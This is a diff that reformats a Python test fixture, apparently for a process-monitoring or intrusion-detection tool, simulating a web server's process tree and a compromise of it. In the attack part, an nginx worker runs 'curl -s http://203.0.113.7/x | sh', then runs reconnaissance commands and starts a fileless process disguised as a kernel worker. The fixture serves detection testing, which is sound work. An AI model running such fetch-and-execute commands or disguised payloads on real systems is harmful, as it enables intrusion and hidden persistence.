@@ -66,29 +66,113 @@ def web1() -> list[AnyEvent]:
     was("systemd-journald", 388, "systemd", 2, "root", "/lib/systemd/systemd-journald")
     was("cron", 644, "systemd", 8, "root", "/usr/sbin/cron -f")
     was("containerd", 702, "systemd", 9, "root", "/usr/bin/containerd")
-    was("shim", 2210, "containerd", 900, "root", "containerd-shim-runc-v2 -namespace moby -id 9f1c77ae01", name="containerd-shim")
+    was(
+        "shim",
+        2210,
+        "containerd",
+        900,
+        "root",
+        "containerd-shim-runc-v2 -namespace moby -id 9f1c77ae01",
+        name="containerd-shim",
+    )
     was("node", 2231, "shim", 901, "1000", "node server.js")
     was("npm", 2244, "node", 903, "1000", "npm run worker")
-    was("nginx", 811, "systemd", 130, "root", "", args=["nginx: master process /usr/sbin/nginx"], executable="/usr/sbin/nginx")
-    was("worker1", 812, "nginx", 130.01, "www-data", "", name="nginx", args=["nginx: worker process"], executable="/usr/sbin/nginx", working_directory="/var/www/html")
-    was("worker2", 813, "nginx", 130.01, "www-data", "", name="nginx", args=["nginx: worker process"], executable="/usr/sbin/nginx")
-    was("sshd", 901, "systemd", 12, "root", "", args=["sshd: /usr/sbin/sshd -D [listener]"], executable="/usr/sbin/sshd")
-    was("postgres", 1033, "systemd", 14, "postgres", "/usr/lib/postgresql/15/bin/postgres -D /var/lib/postgresql/15/main")
+    was(
+        "nginx",
+        811,
+        "systemd",
+        130,
+        "root",
+        "",
+        args=["nginx: master process /usr/sbin/nginx"],
+        executable="/usr/sbin/nginx",
+    )
+    was(
+        "worker1",
+        812,
+        "nginx",
+        130.01,
+        "www-data",
+        "",
+        name="nginx",
+        args=["nginx: worker process"],
+        executable="/usr/sbin/nginx",
+        working_directory="/var/www/html",
+    )
+    was(
+        "worker2",
+        813,
+        "nginx",
+        130.01,
+        "www-data",
+        "",
+        name="nginx",
+        args=["nginx: worker process"],
+        executable="/usr/sbin/nginx",
+    )
+    was(
+        "sshd",
+        901,
+        "systemd",
+        12,
+        "root",
+        "",
+        args=["sshd: /usr/sbin/sshd -D [listener]"],
+        executable="/usr/sbin/sshd",
+    )
+    was(
+        "postgres",
+        1033,
+        "systemd",
+        14,
+        "postgres",
+        "/usr/lib/postgresql/15/bin/postgres -D /var/lib/postgresql/15/main",
+    )
     for number, job in enumerate(("checkpointer", "walwriter", "autovacuum launcher")):
         was(job, 1040 + number, "postgres", 15, "postgres", "", name="postgres", args=[f"postgres: {job}"])
     was("user-systemd", 1402, "systemd", 4000, "ana", "/lib/systemd/systemd --user", name="systemd")
-    was("tmux", 1777, "user-systemd", 5000, "ana", "tmux new -s work", name="tmux: server", executable="/usr/bin/tmux")
+    was(
+        "tmux",
+        1777,
+        "user-systemd",
+        5000,
+        "ana",
+        "tmux new -s work",
+        name="tmux: server",
+        executable="/usr/bin/tmux",
+    )
     was("bash", 1778, "tmux", 5001, "ana", "-bash", **pts)
-    was("pytest", 4402, "bash", NOW - 70, "ana", "python3 -m pytest -q", name="python3", executable="/usr/bin/python3.11", **pts)
+    was(
+        "pytest",
+        4402,
+        "bash",
+        NOW - 70,
+        "ana",
+        "python3 -m pytest -q",
+        name="python3",
+        executable="/usr/bin/python3.11",
+        **pts,
+    )
     count = len(story.events)
     span = SnapshotSpan(first=1, last=count, count=count)
-    story.events.append(story.tell.status(NOW - 60, span, interval_ns=SECOND, counters={"forks_unseen_at_most": 3}))
+    story.events.append(
+        story.tell.status(NOW - 60, span, interval_ns=SECOND, counters={"forks_unseen_at_most": 3})
+    )
     start("CRON", 4598, "cron", 30, "root", "/usr/sbin/CRON -f", executable="/usr/sbin/cron")
     start("run-parts", 4599, "CRON", 30, "root", "run-parts --report /etc/cron.hourly")
     story.exit("run-parts", 29)
     story.exit("CRON", 29)
     shell = {"executable": "/usr/bin/dash", "working_directory": "/var/www/html/uploads"}
-    start("sh", 4711, "worker1", 2.4, "www-data", "", args=["sh", "-c", "curl -s http://203.0.113.7/x | sh"], **shell)
+    start(
+        "sh",
+        4711,
+        "worker1",
+        2.4,
+        "www-data",
+        "",
+        args=["sh", "-c", "curl -s http://203.0.113.7/x | sh"],
+        **shell,
+    )
     start("curl", 4712, "sh", 2.3, "www-data", "curl -s http://203.0.113.7/x")
     start("sh2", 4713, "sh", 2.3, "www-data", "sh", name="sh", **shell)
     story.exit("curl", 1.9)
@@ -96,8 +180,19 @@ def web1() -> list[AnyEvent]:
     story.exit("id", 1.799)
     start("uname", 4717, "sh2", 1.7, "www-data", "uname -a")
     story.exit("uname", 1.699)
-    start("kworkerds", 4719, "sh2", 1.2, "www-data", "", args=["[kworker/0:1]"], executable="/memfd:kworkerds (deleted)")
-    story.events.append(story.tell.status(NOW - 0.5, span, interval_ns=SECOND, counters={"forks_unseen_at_most": 5}))
+    start(
+        "kworkerds",
+        4719,
+        "sh2",
+        1.2,
+        "www-data",
+        "",
+        args=["[kworker/0:1]"],
+        executable="/memfd:kworkerds (deleted)",
+    )
+    story.events.append(
+        story.tell.status(NOW - 0.5, span, interval_ns=SECOND, counters={"forks_unseen_at_most": 5})
+    )
     return story.events
 
 
